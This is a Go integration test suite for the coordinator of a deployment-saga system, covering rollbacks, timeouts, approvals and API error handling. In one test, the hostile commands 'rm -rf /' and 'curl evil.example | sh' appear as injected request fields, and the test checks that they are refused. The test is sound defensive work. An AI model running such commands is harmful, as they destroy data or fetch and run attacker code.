package coordinator_test

import (
	"context"
	"encoding/json"
	"errors"
	"log/slog"
	"net/http"
	"os"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/google/uuid"
	"github.com/jackc/pgx/v5"
	"github.com/nats-io/nats.go/jetstream"

	"github.com/upshift/upshift/pkg/events"
	"github.com/upshift/upshift/pkg/natstest"
	"github.com/upshift/upshift/pkg/pgtest"
	"github.com/upshift/upshift/pkg/saga"
	"github.com/upshift/upshift/pkg/spec"
	"github.com/upshift/upshift/pkg/streams"
	"github.com/upshift/upshift/pkg/testlog"
	"github.com/upshift/upshift/services/coordinator"
	"github.com/upshift/upshift/services/coordinator/api"
	"github.com/upshift/upshift/services/coordinator/sagastore"
)

var streamsCfg = streams.Config{}

func TestSuccessRunsEveryPhaseAndBatchOnce(t *testing.T) {
	t.Parallel()
	forEachStore(t, func(t *testing.T, open storeOpener) {
		w := newWorldOn(t, open, "a", "b")
		w.coordinator("c1")
		id := w.submit(request("test", "a", "b"))
		s := w.wait(id, natstest.Patience)
		if s.State != saga.StateSucceeded {
			t.Fatalf("state %s: %s; steps %v", s.State, s.Reason, commands(s))
		}
		w.drained(id)
		want := "requested prechecking backing_up deploying verifying deploying verifying succeeded"
		var got string
		natstest.Eventually(t, natstest.Patience, "every event published", func() bool {
			got = strings.Join(w.sagaEvents(id), " ")
			return got == want
		})
		for step, n := range w.executions() {
			if n != 1 {
				t.Errorf("%s executed %d times", step, n)
			}
		}
		if n := len(w.executions()); n != 8 {
			t.Fatalf("%d steps executed, want 8", n)
		}
		// In: the request and 8 steps' results, and the started report of
		// each step that ran long enough to send one
		// (phase.DefaultStartedAfter: these are instant, but a loaded
		// machine may pause one). Out: 8 commands and 8 saga events. The
		// results consumer handles 8 inputs at once, so a step's started
		// report may lose the race to its result and be recorded as
		// ignored after the saga has ended: wait for it.
		started := 0
		for _, p := range events.Phases {
			subject := events.ResultSubject(id, p, events.StatusStarted)
			started += len(natstest.ReadEvents[events.StepResult](t, w.js, events.StreamEvents, subject, events.TypeStep))
		}
		wantIn := 1 + 8 + started
		var in, out int
		natstest.Eventually(t, natstest.Patience, "every input in the audit log", func() bool {
			hist, err := w.store.History(context.Background(), id)
			if err != nil {
				t.Fatal(err)
			}
			in, out = 0, 0
			for _, e := range hist {
				if e.Direction == sagastore.In {
					in++
				} else {
					out++
				}
			}
			return in >= wantIn
		})
		if in != wantIn || out != 16 {
			t.Fatalf("audit has %d in, %d out; want %d in (%d steps reported started), 16 out", in, out, wantIn, started)
		}
		if got := w.metric("upshift_sagas_total", "outcome", "succeeded"); got != 1 {
			t.Fatalf("upshift_sagas_total{succeeded} = %v", got)
		}
	})
}

func TestVerifyFailureRollsBackNewestFirst(t *testing.T) {
	t.Parallel()
	forEachStore(t, func(t *testing.T, open storeOpener) {
		w := newWorldOn(t, open, "a", "b")
		w.on("verify.probe.b", "fail")
		w.coordinator("c1")
		id := w.submit(request("test", "a", "b"))
		s := w.wait(id, natstest.Patience)
		if s.State != saga.StateRolledBack || !strings.HasPrefix(s.Reason, "verify probe on b failed: scripted failure") {
			t.Fatalf("state %s: %s", s.State, s.Reason)
		}
		var comp []string
		for _, st := range s.Steps {
			if st.Compensates != "" {
				comp = append(comp, string(st.Action)+"."+st.Target)
			}
		}
		// The two backups ran at once: the one that finished last is restored
		// first.
		a, _ := s.Step(events.StepID(id, events.Backup, events.ActionArchive, "a", 1))
		b, _ := s.Step(events.StepID(id, events.Backup, events.ActionArchive, "b", 1))
		restores := "restore.b restore.a"
		if a.Done > b.Done {
			restores = "restore.a restore.b"
		}
		if strings.Join(comp, " ") != "rollback.b rollback.a "+restores {
			t.Fatalf("compensations %v (backup a done %d, b done %d)", comp, a.Done, b.Done)
		}
		var kinds []string
		natstest.Eventually(t, natstest.Patience, "rolled_back published", func() bool {
			kinds = w.sagaEvents(id)
			return kinds[len(kinds)-1] == "rolled_back"
		})
		if !slices.Contains(kinds, events.KindStepFailed) {
			t.Fatalf("events %v", kinds)
		}
	})
}

func TestPrecheckFailureEndsFailedWithNothingDeployed(t *testing.T) {
	t.Parallel()
	forEachStore(t, func(t *testing.T, open storeOpener) {
		w := newWorldOn(t, open, "a")
		w.on("precheck.check.a", "fail")
		w.coordinator("c1")
		s := w.wait(w.submit(request("test", "a")), natstest.Patience)
		if s.State != saga.StateFailed || !strings.Contains(s.Reason, "nothing was changed") {
			t.Fatalf("state %s: %s", s.State, s.Reason)
		}
		for step := range w.executions() {
			if !strings.Contains(step, ".precheck.") {
				t.Fatalf("executed %s after a failed precheck", step)
			}
		}
	})
}

func TestSilentPhaseTimesOutAndRollsBack(t *testing.T) {
	t.Parallel()
	forEachStore(t, func(t *testing.T, open storeOpener) {
		w := newWorldOn(t, open, "a")
		w.on("verify.probe.a", "hang")
		w.coordinator("c1")
		r := request("test", "a")
		r.Spec.Timeouts.Verify = sec(2)
		s := w.wait(w.submit(r), natstest.Patience)
		if s.State != saga.StateRolledBack || !strings.Contains(s.Reason, "verify probe on a timed out: no result within 2s") {
			t.Fatalf("state %s: %s", s.State, s.Reason)
		}
	})
}

func TestInvalidRequestIsRefusedWithTheReason(t *testing.T) {
	t.Parallel()
	forEachStore(t, func(t *testing.T, open storeOpener) {
		w := newWorldOn(t, open, "a")
		w.coordinator("c1")
		r := request("test")
		r.Spec.To = r.Spec.From
		id := w.submit(r)
		e := w.refusal(id)
		if !strings.Contains(e.Reason, "spec.targets: at least one target is required") || !strings.Contains(e.Reason, "spec.to: equals spec.from") {
			t.Fatalf("reason %q", e.Reason)
		}
	})
}

// A request that arrives on the bus is checked as `upshift validate` checks
// a file: a field the request format does not have (here, commands and
// hooks, which only a target's configuration may hold) makes it invalid,
// named, rather than silently dropped.
func TestUnknownFieldsOnTheBusMakeARequestInvalid(t *testing.T) {
	t.Parallel()
	forEachStore(t, func(t *testing.T, open storeOpener) {
		w := newWorldOn(t, open, "a")
		w.coordinator("c1")
		b, err := json.Marshal(request("test", "a"))
		if err != nil {
			t.Fatal(err)
		}
		var doc map[string]any
		if err := json.Unmarshal(b, &doc); err != nil {
			t.Fatal(err)
		}
		doc["spec"].(map[string]any)["commands"] = []string{"rm -rf /"}
		doc["spec"].(map[string]any)["hooks"] = map[string]any{"start": "curl evil.example | sh"}
		id := uuid.Must(uuid.NewV7()).String()
		w.publish(events.RequestSubject("platform"), id, events.TypeRequest, doc)
		e := w.refusal(id)
		for _, want := range []string{"spec.commands: unknown field", "spec.hooks: unknown field"} {
			if !strings.Contains(e.Reason, want) {
				t.Errorf("reason %q lacks %q", e.Reason, want)
			}
		}
	})
}

// A request naming a target that no phase service serves is refused at
// once, naming the target and the services missing, rather than left to
// time out with its command in the work queue.
func TestATargetNoServiceServesIsRefusedAtOnce(t *testing.T) {
	t.Parallel()
	forEachStore(t, func(t *testing.T, open storeOpener) {
		w := newWorldOn(t, open, "a")
		w.coordinator("c1")
		r := request("test", "a", "ghost")
		r.Spec.Timeouts.Precheck = sec(600) // far beyond the test's patience
		id := w.submit(r)
		e := w.refusal(id)
		if !strings.Contains(e.Reason, `no service serves target "ghost"`) || strings.Contains(e.Reason, `"a"`) {
			t.Fatalf("reason %q", e.Reason)
		}
	})
}

func TestARequestOnAnotherTeamsSubjectIsRefused(t *testing.T) {
	t.Parallel()
	forEachStore(t, func(t *testing.T, open storeOpener) {
		w := newWorldOn(t, open, "a")
		w.coordinator("c1")
		r := request("test", "a") // team platform
		id := uuid.Must(uuid.NewV7()).String()
		w.publish(events.RequestSubject("qa"), id, events.TypeRequest, r)
		e := w.refusal(id)
		if !strings.Contains(e.Reason, `the request is team "platform"'s but was published on upshift.request.qa`) {
			t.Fatalf("reason %q", e.Reason)
		}
	})
}

func TestMalformedInputsAreDeadLetteredAndWorkGoesOn(t *testing.T) {
	t.Parallel()
	forEachStore(t, func(t *testing.T, open storeOpener) {
		w := newWorldOn(t, open, "a")
		w.coordinator("c1")
		ctx := context.Background()
		for _, subj := range []string{"upshift.request.platform", "upshift.evt.x.deploy.succeeded", "upshift.timer.fire.x"} {
			if _, err := w.js.Publish(ctx, subj, []byte("not an event")); err != nil {
				t.Fatal(err)
			}
		}
		// Well formed, about a saga that does not exist.
		w.publish(events.ControlSubject("ghost", events.OpCancel), "ctl-1", events.TypeControl,
			events.Control{ID: "ctl-1", Saga: "ghost", Op: events.OpCancel, Actor: "x"})
		s := w.wait(w.submit(request("test", "a")), natstest.Patience)
		if s.State != saga.StateSucceeded {
			t.Fatalf("state %s", s.State)
		}
		natstest.Eventually(t, natstest.Patience, "four dead letters", func() bool {
			return len(natstest.Read(t, w.js, events.StreamDeadLetter, "upshift.dlq.>")) == 4
		})
		for _, dl := range natstest.ReadEvents[events.DeadLetter](t, w.js, events.StreamDeadLetter, "upshift.dlq.>", events.TypeDeadLetter) {
			// The undecodable are terminated at once; the decision about a saga
			// that does not exist is retried (a replica may lag), then given up.
			want := uint64(1)
			if strings.HasPrefix(dl.Subject, "upshift.control.ghost") {
				want = uint64(fast.MaxDeliver)
			}
			if !strings.HasPrefix(dl.Consumer, "coordinator-") || dl.Deliveries != want {
				t.Errorf("dead letter %+v", dl)
			}
		}
	})
}

func TestDuplicateRequestMakesOneSaga(t *testing.T) {
	t.Parallel()
	forEachStore(t, func(t *testing.T, open storeOpener) {
		w := newWorldOn(t, open, "a")
		w.coordinator("c1")
		r := request("test", "a")
		id := w.submit(r)
		w.wait(id, natstest.Patience)
		// The same request again, past the stream's duplicate window.
		env, _ := events.New(id, events.TypeRequest, "test", "", 0, time.Now(), r)
		b, _ := events.Encode(env)
		ack, err := w.js.Publish(context.Background(), events.RequestSubject("platform"), b)
		if err != nil {
			t.Fatal(err)
		}
		// Handled, and whatever it caused executed.
		w.acked(events.StreamRequests, "coordinator-requests", ack.Sequence)
		w.idle(events.StreamCommands, events.StreamEvents)
		if n := len(w.executions()); n != 4 {
			t.Fatalf("%d steps executed, want 4", n)
		}
		if got := strings.Join(w.sagaEvents(id), " "); strings.Count(got, "requested") != 1 {
			t.Fatalf("events %q", got)
		}
	})
}

func TestCoordinatorRestartedMidSagaFinishesIt(t *testing.T) {
	t.Parallel()
	forEachStore(t, func(t *testing.T, open storeOpener) {
		w := newWorldOn(t, open, "a", "b")
		// A deploy that lasts seconds: the saga is seen deploying, not
		// only already past it (a fast coordinator went through every
		// state between two polls).
		w.on("deploy.apply.a", "slow-once")
		_, stop := w.coordinator("c1")
		id := w.submit(request("test", "a", "b"))
		w.wait(id, natstest.Patience, saga.StateDeploying)
		stop()
		// Reports keep arriving while no coordinator runs.
		natstest.Eventually(t, natstest.Patience, "a report waiting for a coordinator", func() bool {
			c := w.consumer(events.StreamEvents, "coordinator-results")
			return c != nil && c.NumPending+uint64(c.NumAckPending) > 0
		})
		w.coordinator("c2")
		s := w.wait(id, natstest.Patience)
		if s.State != saga.StateSucceeded {
			t.Fatalf("state %s: %s", s.State, s.Reason)
		}
		for step, n := range w.executions() {
			if n != 1 {
				t.Errorf("%s executed %d times", step, n)
			}
		}
	})
}

func TestCancelThroughTheAPIRollsBack(t *testing.T) {
	t.Parallel()
	forEachStore(t, func(t *testing.T, open storeOpener) {
		w := newWorldOn(t, open, "a")
		w.on("verify.probe.a", "hang")
		c, _ := w.coordinator("c1")
		r := request("test", "a")
		r.Spec.Timeouts.Verify = sec(60)
		id := w.submit(r)
		w.wait(id, natstest.Patience, saga.StateVerifying)
		reply, err := c.Decide(context.Background(), api.ControlRequest{ID: id, Op: events.OpCancel, Actor: "alice", Comment: "wrong day"})
		if err != nil || !reply.Accepted {
			t.Fatalf("cancel: %+v %v", reply, err)
		}
		s := w.wait(id, natstest.Patience)
		if s.State != saga.StateRolledBack || s.Reason != "cancelled by alice: wrong day" {
			t.Fatalf("state %s: %s", s.State, s.Reason)
		}
		if _, err := c.Decide(context.Background(), api.ControlRequest{ID: id, Op: events.OpCancel, Actor: "bob"}); !errors.Is(err, api.ErrTooLate) {
			t.Fatalf("cancel of a finished saga: %v", err)
		}
	})
}

func TestApprovalGateThroughTheAPI(t *testing.T) {
	t.Parallel()
	forEachStore(t, func(t *testing.T, open storeOpener) {
		w := newWorldOn(t, open, "a")
		w.policy = coordinator.Policy{ApprovalEnvironments: []string{"production"}, ApprovalTimeout: time.Hour}
		c, _ := w.coordinator("c1")
		ctx := context.Background()

		ok := w.submit(request("production", "a"))
		no := w.submit(request("production", "a"))
		w.wait(ok, natstest.Patience, saga.StateAwaitingApproval)
		w.wait(no, natstest.Patience, saga.StateAwaitingApproval)
		// The in-flight gauge is counted from the store when scraped: no
		// refresh to wait for.
		if n := w.metric("upshift_sagas_in_flight", "state", string(saga.StateAwaitingApproval)); n != 2 {
			t.Fatalf("upshift_sagas_in_flight{state=awaiting_approval} = %v, want 2", n)
		}
		if _, err := c.Decide(ctx, api.ControlRequest{ID: ok, Op: events.OpApprove, Actor: "carol", Comment: "CAB-42"}); err != nil {
			t.Fatal(err)
		}
		if _, err := c.Decide(ctx, api.ControlRequest{ID: no, Op: events.OpReject, Actor: "dave", Comment: "freeze"}); err != nil {
			t.Fatal(err)
		}
		if s := w.wait(ok, natstest.Patience); s.State != saga.StateSucceeded || s.Approval.Actor != "carol" || s.Approval.Comment != "CAB-42" {
			t.Fatalf("approved saga: %s %+v", s.State, s.Approval)
		}
		if s := w.wait(no, natstest.Patience); s.State != saga.StateRejected || s.Reason != "rejected by dave: freeze" {
			t.Fatalf("rejected saga: %s %s", s.State, s.Reason)
		}
		natstest.Eventually(t, natstest.Patience, "approved event", func() bool {
			return slices.Contains(w.sagaEvents(ok), events.KindApproved)
		})
		// A saga in test needs no approval.
		if _, err := c.Decide(ctx, api.ControlRequest{ID: "nope", Op: events.OpApprove, Actor: "x"}); !errors.Is(err, sagastore.ErrNotFound) {
			t.Fatalf("approve unknown: %v", err)
		}
	})
}

func TestAPIOverNATS(t *testing.T) {
	t.Parallel()
	forEachStore(t, func(t *testing.T, open storeOpener) {
		w := newWorldOn(t, open, "a")
		w.coordinator("c1")
		id := w.submit(request("test", "a"))
		w.wait(id, natstest.Patience)
		call := func(subject string, req any, out any) error {
			b, _ := json.Marshal(req)
			msg, err := w.nc.Request(subject, b, 5*time.Second)
			if err != nil {
				return err
			}
			if code := msg.Header.Get("Nats-Service-Error-Code"); code != "" {
				return errors.New(code + " " + msg.Header.Get("Nats-Service-Error"))
			}
			return json.Unmarshal(msg.Data, out)
		}
		var v api.View
		if err := call(api.SubjectGet, api.IDRequest{ID: id}, &v); err != nil || v.Saga.State != saga.StateSucceeded {
			t.Fatalf("get: %+v %v", v.Saga.State, err)
		}
		var list api.ListReply
		if err := call(api.SubjectList, sagastore.Filter{Team: "platform"}, &list); err != nil || len(list.Sagas) != 1 || list.Sagas[0].ID != id {
			t.Fatalf("list: %+v %v", list, err)
		}
		var hist []sagastore.Entry
		if err := call(api.SubjectHistory, api.IDRequest{ID: id}, &hist); err != nil || len(hist) < 10 {
			t.Fatalf("history: %d entries, %v", len(hist), err)
		}
		err := call(api.SubjectGet, api.IDRequest{ID: "nope"}, &v)
		if err == nil || !strings.HasPrefix(err.Error(), "404") {
			t.Fatalf("get unknown: %v", err)
		}
		err = call(api.SubjectControl, api.ControlRequest{ID: id, Op: "explode", Actor: "x"}, &v)
		if err == nil || !strings.HasPrefix(err.Error(), "400") {
			t.Fatalf("bad control: %v", err)
		}
	})
}

// An internal error reaches a caller of the NATS API as a reference to the
// log line that holds its cause, never as the cause itself, which may name
// buckets, tables or hosts: the HTTP API shows no more.
//
// On KV only: it spoils a saga the way only KV lets one be spoilt.
func TestAPIHidesInternalErrors(t *testing.T) {
	t.Parallel()
	w := newWorldOn(t, openKV, "a")
	ctx := context.Background()
	bucket, err := w.js.KeyValue(ctx, streams.SagasBucket)
	if err != nil {
		t.Fatal(err)
	}
	// Written behind the store's back, it cannot be decoded: loading it
	// fails with the decoder's words.
	if _, err := bucket.Put(ctx, "saga.spoilt", []byte(`{"saga": {"id": "spoilt", "state": 5}}`)); err != nil {
		t.Fatal(err)
	}
	var logs testlog.Buffer
	w.log = slog.New(slog.NewJSONHandler(&logs, &slog.HandlerOptions{Level: slog.LevelError}))
	w.coordinator("c1")

	_, err = api.NewClient(w.nc).Get(ctx, "spoilt")
	var apiErr *api.Error
	if !errors.As(err, &apiErr) || apiErr.Code != http.StatusInternalServerError {
		t.Fatalf("get an undecodable saga: %v, want an API error with code 500", err)
	}
	for _, leak := range []string{"cannot be decoded", "unmarshal", "saga.State", "spoilt"} {
		if strings.Contains(err.Error(), leak) {
			t.Fatalf("the cause leaked (%q): %v", leak, err)
		}
	}
	_, ref, ok := strings.Cut(apiErr.Message, api.InternalError+", ref ")
	if !ok || ref == "" {
		t.Fatalf("message %q: want %q and a reference", apiErr.Message, api.InternalError)
	}
	for _, sentinel := range []error{api.ErrBadRequest, api.ErrNoSaga, api.ErrTooLate} {
		if errors.Is(err, sentinel) {
			t.Fatalf("%v is %v", err, sentinel)
		}
	}
	var logged bool
	for line := range strings.Lines(logs.String()) {
		var l map[string]any
		if err := json.Unmarshal([]byte(line), &l); err != nil {
			t.Fatalf("log line %q: %v", line, err)
		}
		if l["ref"] == ref {
			cause, _ := l["err"].(string)
			if l["saga"] != "spoilt" || l["endpoint"] != "get" || !strings.Contains(cause, "cannot be decoded") {
				t.Fatalf("the line of ref %s: %v", ref, l)
			}
			logged = true
		}
	}
	if !logged {
		t.Fatalf("no log line with ref %s:\n%s", ref, logs.String())
	}
}

// The sweep finds a deadline whose timer was lost, and a stored saga that
// cannot be decoded (here, written behind the store's back) does not stop it:
// it is counted, named by the API, and skipped.
func TestLostDeadlineIsFoundByTheSweep(t *testing.T) {
	t.Parallel()
	forEachStore(t, func(t *testing.T, open storeOpener) {
		w := newWorldOn(t, open, "a")
		w.on("verify.probe.a", "hang")
		w.grace = time.Second
		if err := w.spoil(context.Background(), "spoilt"); err != nil {
			t.Fatal(err)
		}
		c, _ := w.coordinator("c1")
		// Long time-outs elsewhere: no earlier phase's timer may fire during the
		// test and tick the saga in the sweep's stead.
		r := request("test", "a")
		r.Spec.Timeouts.Precheck, r.Spec.Timeouts.Backup, r.Spec.Timeouts.Deploy = sec(120), sec(120), sec(120)
		// Time to purge the verify deadline before it fires, on a loaded machine.
		r.Spec.Timeouts.Verify = sec(10)
		id := w.submit(r)
		verifying := w.wait(id, natstest.Patience, saga.StateVerifying)
		// The verify deadline's schedule vanishes before it fires, as if the
		// TIMERS stream had dropped it: once it is there (the saga is stored a
		// moment before its outbox is published), purge it.
		timers, err := w.js.Stream(context.Background(), events.StreamTimers)
		if err != nil {
			t.Fatal(err)
		}
		schedule := events.TimerScheduleSubject(id, verifying.Wakes)
		natstest.Eventually(t, natstest.Patience, "the verify deadline scheduled", func() bool {
			_, err := timers.GetLastMsgForSubject(context.Background(), schedule)
			return err == nil
		})
		if err := timers.Purge(context.Background(), jetstream.WithPurgeSubject(schedule)); err != nil {
			t.Fatal(err)
		}
		s := w.wait(id, natstest.Patience)
		if s.State != saga.StateRolledBack || !strings.Contains(s.Reason, "timed out") {
			t.Fatalf("state %s: %s", s.State, s.Reason)
		}
		if n := w.metric("upshift_coordinator_overdue_total"); n < 1 {
			t.Fatalf("the sweep found %v overdue deadlines", n)
		}
		if n := w.metric("upshift_coordinator_unreadable_sagas"); n != 1 {
			t.Fatalf("%v unreadable sagas counted, want 1", n)
		}
		list, err := c.List(context.Background(), sagastore.Filter{})
		if err != nil || len(list.Sagas) != 1 || list.Sagas[0].ID != id || !slices.Equal(list.Unreadable, []string{"spoilt"}) {
			t.Fatalf("list: %+v, %v; want %s listed and spoilt named", list, err, id)
		}
	})
}

// A store that fails while the rehearsal gate looks is an error to retry,
// not the policy refusing: the request is accepted once the store is back.
//
// PostgreSQL only: a column renamed breaks its listing and not its loading;
// a KV store lists and loads through the same keys, so it fails both or
// neither.
func TestStoreErrorInTheRehearsalGateIsRetried(t *testing.T) {
	t.Parallel()
	url := pgtest.Database(t)
	w := newWorldOn(t, func(t testing.TB, _ jetstream.JetStream) opened { return openPostgresAt(t, url) }, "a")
	w.policy = coordinator.Policy{Environments: map[string]coordinator.Environment{
		"production": {Rehearsal: &coordinator.Rehearsal{Environment: "test"}}}}
	// Retries for a minute, not fast's second: the store must be repaired
	// before the request is given up, whatever the machine's load.
	w.cons = fast
	w.cons.MaxDeliver, w.cons.Backoff = 100, []time.Duration{500 * time.Millisecond}
	w.coordinator("c1")
	if s := w.wait(w.submit(request("test", "a")), natstest.Patience); s.State != saga.StateSucceeded {
		t.Fatalf("rehearsal %s: %s", s.State, s.Reason)
	}
	// A column the gate's listing filters on goes missing, as in a botched
	// manual migration: listing fails, loading a saga still works.
	ctx := context.Background()
	conn, err := pgx.Connect(ctx, url)
	if err != nil {
		t.Fatal(err)
	}
	defer conn.Close(ctx)
	if _, err := conn.Exec(ctx, `ALTER TABLE sagas RENAME COLUMN digest TO digest_away`); err != nil {
		t.Fatal(err)
	}
	retried := w.metric("upshift_consumer_messages_total", "result", "retried")
	id := w.submit(request("production", "a"))
	natstest.Eventually(t, natstest.Patience, "the request tried against the failing store", func() bool {
		return w.metric("upshift_consumer_messages_total", "result", "retried") > retried
	})
	if _, err := conn.Exec(ctx, `ALTER TABLE sagas RENAME COLUMN digest_away TO digest`); err != nil {
		t.Fatal(err)
	}
	natstest.Eventually(t, natstest.Patience, "the saga created", func() bool {
		_, err := w.store.Load(ctx, id)
		return err == nil
	})
	for _, kind := range w.sagaEvents(id) {
		if kind == events.KindInvalid {
			t.Fatalf("refused: %v", w.sagaEvents(id))
		}
	}
}

// A rehearsal counts only within its policy's time limit.
func TestRehearsalGateWithinATime(t *testing.T) {
	t.Parallel()
	forEachStore(t, func(t *testing.T, open storeOpener) {
		w := newWorldOn(t, open, "a")
		gate := func(within time.Duration) coordinator.Policy {
			return coordinator.Policy{Environments: map[string]coordinator.Environment{
				"production": {Rehearsal: &coordinator.Rehearsal{Environment: "test", Within: spec.Duration{Duration: within}}}}}
		}
		w.policy = gate(time.Hour)
		_, stop := w.coordinator("c1")
		if s := w.wait(w.submit(request("test", "a")), natstest.Patience); s.State != saga.StateSucceeded {
			t.Fatalf("rehearsal %s: %s", s.State, s.Reason)
		}
		if s := w.wait(w.submit(request("production", "a")), natstest.Patience); s.State != saga.StateSucceeded {
			t.Fatalf("production within the hour: %s: %s", s.State, s.Reason)
		}
		stop()

		w.policy = gate(time.Millisecond)
		w.coordinator("c2")
		id := w.submit(request("production", "a"))
		natstest.Eventually(t, natstest.Patience, "refusal", func() bool { return len(w.sagaEvents(id)) == 1 })
		evs := natstest.ReadEvents[events.SagaEvent](t, w.js, events.StreamEvents, events.SagaSubject(id, ">"), events.TypeSaga)
		if evs[0].Kind != events.KindInvalid || !strings.Contains(evs[0].Reason, "within the last 1ms") {
			t.Fatalf("event %s: %s", evs[0].Kind, evs[0].Reason)
		}
	})
}

// The wire format documented for clients other than the CLI
// (docs/architecture.md, "Requests from any client"): the example file,
// published as it is with a plain NATS publish, starts a saga under the
// event's id, which ends.
func TestTheDocumentedRequestEventStartsASaga(t *testing.T) {
	t.Parallel()
	b, err := os.ReadFile("../../examples/request-event.json")
	if err != nil {
		t.Fatal(err)
	}
	var env events.Envelope
	if err := json.Unmarshal(b, &env); err != nil {
		t.Fatal(err)
	}
	forEachStore(t, func(t *testing.T, open storeOpener) {
		w := newWorldOn(t, open, "demo")
		w.coordinator("c1")
		if err := w.nc.Publish(events.RequestSubject("platform"), b); err != nil {
			t.Fatal(err)
		}
		if s := w.wait(env.ID, 2*natstest.Patience); s.State != saga.StateSucceeded || s.Request.Spec.Software != "demo-app" {
			t.Fatalf("saga %s: %s (%s)", env.ID, s.State, s.Reason)
		}
	})
}

// refusal waits for a request's refusal and returns it, having checked that
// no saga was created.
func (w *world) refusal(id string) events.SagaEvent {
	w.t.Helper()
	natstest.Eventually(w.t, natstest.Patience, "refusal", func() bool { return len(w.sagaEvents(id)) == 1 })
	e := natstest.ReadEvents[events.SagaEvent](w.t, w.js, events.StreamEvents, events.SagaSubject(id, events.KindInvalid), events.TypeSaga)[0]
	if _, err := w.store.Load(context.Background(), id); !errors.Is(err, sagastore.ErrNotFound) {
		w.t.Fatalf("a saga was created: %v", err)
	}
	return e
}
